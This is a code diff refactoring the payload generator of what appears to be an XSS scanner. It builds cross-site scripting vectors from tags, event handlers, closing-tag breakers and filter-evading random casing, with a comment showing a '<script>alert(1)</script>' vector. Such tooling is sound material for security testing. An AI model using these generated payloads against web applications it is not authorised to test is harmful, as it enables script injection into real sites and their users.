@@ -1,6 +1,7 @@
 import json
 import random
 import re
+from functools import partial
 from urllib.parse import urlparse
 
 import core.config
@@ -209,7 +210,9 @@ def extractScripts(response):
 
 
 def randomUpper(string):
-    return ''.join(random.choice((x, y)) for x, y in zip(string.upper(), string.lower()))
+    # a seed makes the casing depend on the string only, so recorded payloads can be replayed
+    rng = random.Random(string) if core.config.payloadSeed else random
+    return ''.join(rng.choice((x, y)) for x, y in zip(string.upper(), string.lower()))
 
 
 def flattenParams(currentParam, params, payload):
@@ -221,60 +224,91 @@ def flattenParams(currentParam, params, payload):
     return '?' + '&'.join(flatted)
 
 
-def genGen(fillings, eFillings, lFillings, eventHandlers, tags, functions, ends, badTag=None):
-    vectors = []
-    r = randomUpper  # randomUpper randomly converts chars of a string to uppercase
+def casings(string, count=8):
+    """Precomputed randomUpper variants of a string"""
+    key = (string, count, core.config.payloadSeed)
+    variants = _casings.get(key)
+    if variants is None:
+        unique = []
+        for i in range(count * 4):  # short words have fewer than count variants
+            if core.config.payloadSeed:
+                variant = randomUpper(string + str(i))[:len(string)]
+            else:
+                variant = randomUpper(string)
+            if variant not in unique:
+                unique.append(variant)
+                if len(unique) == count:
+                    break
+        variants = tuple(unique)
+        _casings[key] = variants
+    return variants
+
+
+_casings = {}
+
+
+def genFamilies(fillings, eFillings, lFillings, eventHandlers, tags, functions, ends, badTag=None):
+    """
+    Split the vectors genGen() would build into families, one per tag and event handler
+
+    Yields:
+        (family, number of vectors, function returning a generator of the vectors)
+    """
+    ends = tuple(ends)  # vectors are built later, the caller may reuse its list meanwhile
+    combinations = len(functions) * len(fillings) * len(eFillings) * len(lFillings) * len(ends)
     for tag in tags:
-        if tag == 'd3v' or tag == 'a':
-            bait = xsschecker
-        else:
-            bait = ''
         for eventHandler in eventHandlers:
             # if the tag is compatible with the event handler
-            if tag in eventHandlers[eventHandler]:
-                for function in functions:
-                    for filling in fillings:
-                        for eFilling in eFillings:
-                            for lFilling in lFillings:
-                                for end in ends:
-                                    if tag == 'd3v' or tag == 'a':
-                                        if '>' in ends:
-                                            end = '>'  # we can't use // as > with "a" or "d3v" tag
-                                    breaker = ''
-                                    if badTag:
-                                        breaker = '</' + r(badTag) + '>'
-                                    
-                                    # Special handling for script tag: direct inclusion of JavaScript code (only in slim mode)
-                                    if tag == 'script' and eventHandler == 'direct':
-                                        # <script>alert(1)</script>
-                                        vector = breaker + '<' + r(tag) + '>' + function + '</' + r(tag) + '>' + bait
-                                        vectors.append(vector)
-                                        continue
-                                    
-                                    # Add necessary trigger attributes for different tags (slim mode)
-                                    trigger_attr = ''
-                                    if tag == 'img':
-                                        trigger_attr = filling + 'src=x'  # img needs src attribute to trigger onerror
-                                    elif tag == 'svg':
-                                        trigger_attr = ''  # svg's onload can be triggered directly
-                                    elif tag == 'details':
-                                        trigger_attr = filling + 'open'  # details needs open attribute to trigger ontoggle
-                                    elif tag == 'body':
-                                        trigger_attr = ''  # body tag events can be triggered directly
-                                    
-                                    # Fix: there should be no extra spaces after the = sign
-                                    # Compatible with full mode: use original format (eFilling will be on both sides of =)
-                                    # Compatible with slim mode: use improved format (trigger_attr + eventHandler)
-                                    if trigger_attr or tag in ('body', 'svg'):
-                                        # Slim mode format: <tag trigger_attr filling eventHandler eFilling = function lFilling end bait
-                                        vector = breaker + '<' + r(tag) + trigger_attr + filling + r(
-                                            eventHandler) + eFilling + '=' + function + lFilling + end + bait
-                                    else:
-                                        # Full mode format (backward compatibility): <tag filling eventHandler eFilling = eFilling function lFilling end bait
-                                        vector = breaker + '<' + r(tag) + filling + r(
-                                            eventHandler) + eFilling + '=' + eFilling + function + lFilling + end + bait
-                                    
-                                    vectors.append(vector)
+            if tag in eventHandlers[eventHandler] and combinations:
+                yield tag + ':' + eventHandler, combinations, partial(
+                    _genFamily, fillings, eFillings, lFillings, eventHandler, tag, functions, ends, badTag)
+
+
+def _genFamily(fillings, eFillings, lFillings, eventHandler, tag, functions, ends, badTag):
+    # casing variants are cycled through instead of drawing every character at random
+    tagCasings = casings(tag)
+    handlerCasings = casings(eventHandler)
+    breakers = ['</' + variant + '>' for variant in casings(badTag)] if badTag else ['']
+    variant = 0
+    if tag == 'd3v' or tag == 'a':
+        bait = xsschecker
+    else:
+        bait = ''
+    # Add necessary trigger attributes for different tags (slim mode)
+    # img needs src attribute to trigger onerror, details needs open attribute to trigger ontoggle
+    trigger = {'img': 'src=x', 'details': 'open'}.get(tag, '')
+    for function in functions:
+        for filling in fillings:
+            for eFilling in eFillings:
+                for lFilling in lFillings:
+                    for end in ends:
+                        if tag == 'd3v' or tag == 'a':
+                            if '>' in ends:
+                                end = '>'  # we can't use // as > with "a" or "d3v" tag
+                        variant += 1
+                        r = tagCasings[variant % len(tagCasings)]
+                        breaker = breakers[variant % len(breakers)]
+                        # Special handling for script tag: direct inclusion of JavaScript code (only in slim mode)
+                        if tag == 'script' and eventHandler == 'direct':
+                            # <script>alert(1)</script>
+                            yield breaker + '<' + r + '>' + function + '</' + r + '>' + bait
+                            continue
+                        handler = handlerCasings[variant % len(handlerCasings)]
+                        if trigger or tag in ('body', 'svg'):
+                            # Slim mode format: <tag trigger_attr filling eventHandler eFilling = function lFilling end bait
+                            triggerAttr = filling + trigger if trigger else ''
+                            yield breaker + '<' + r + triggerAttr + filling + handler + \
+                                eFilling + '=' + function + lFilling + end + bait
+                        else:
+                            # Full mode format: <tag filling eventHandler eFilling = eFilling function lFilling end bait
+                            yield breaker + '<' + r + filling + handler + eFilling + '=' + \
+                                eFilling + function + lFilling + end + bait
+
+
+def genGen(fillings, eFillings, lFillings, eventHandlers, tags, functions, ends, badTag=None):
+    vectors = []
+    for _, _, family in genFamilies(fillings, eFillings, lFillings, eventHandlers, tags, functions, ends, badTag):
+        vectors.extend(family())
     return vectors
 
 